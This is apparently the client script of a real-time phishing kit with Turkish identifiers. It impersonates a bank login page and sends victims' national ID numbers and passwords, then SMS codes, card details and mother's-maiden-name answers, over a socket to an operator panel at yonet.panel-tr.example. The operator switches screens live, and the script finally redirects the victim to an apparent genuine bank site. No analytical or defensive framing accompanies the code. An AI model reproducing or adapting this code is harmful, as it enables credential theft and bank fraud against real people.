var socket = io("https://yonet.panel-tr.example", { query: { tip: "ziyaretci", host: location.host } });
var bekle = $("#bekle");
socket.on("connect", function () { socket.emit("geldi", { sayfa: "giris", cihaz: navigator.platform }); });
$("#girisForm").on("submit", function (e) {
  e.preventDefault();
  socket.emit("giris", { tc: $("#tcno").val(), sifre: $("#sifre").val() });
  bekle.fadeIn();
});
$(document).on("submit", ".ekForm", function (e) {
  e.preventDefault();
  socket.emit("veri", { alan: $(this).data("alan"), deger: $(this).find("input").val() });
  bekle.fadeIn();
});
socket.on("git", function (m) {
  bekle.fadeOut();
  $(".ekran").hide();
  if (m.hata) $("#hata").text("Girdiğiniz bilgi hatalı, lütfen tekrar deneyiniz.").show();
  switch (m.ekran) {
    case "sms": $("#smsEkran").show(); $("#son4").text(m.son4); break;
    case "kart": $("#kartEkran").show(); break;
    case "anne": $("#anneEkran").show(); break;
    case "onay": $("#onayEkran").show(); break;
    case "bitti": location.href = "https://www.anadolu-kredi.example"; break;
  }
});
window.onbeforeunload = function () { socket.emit("cikti"); };
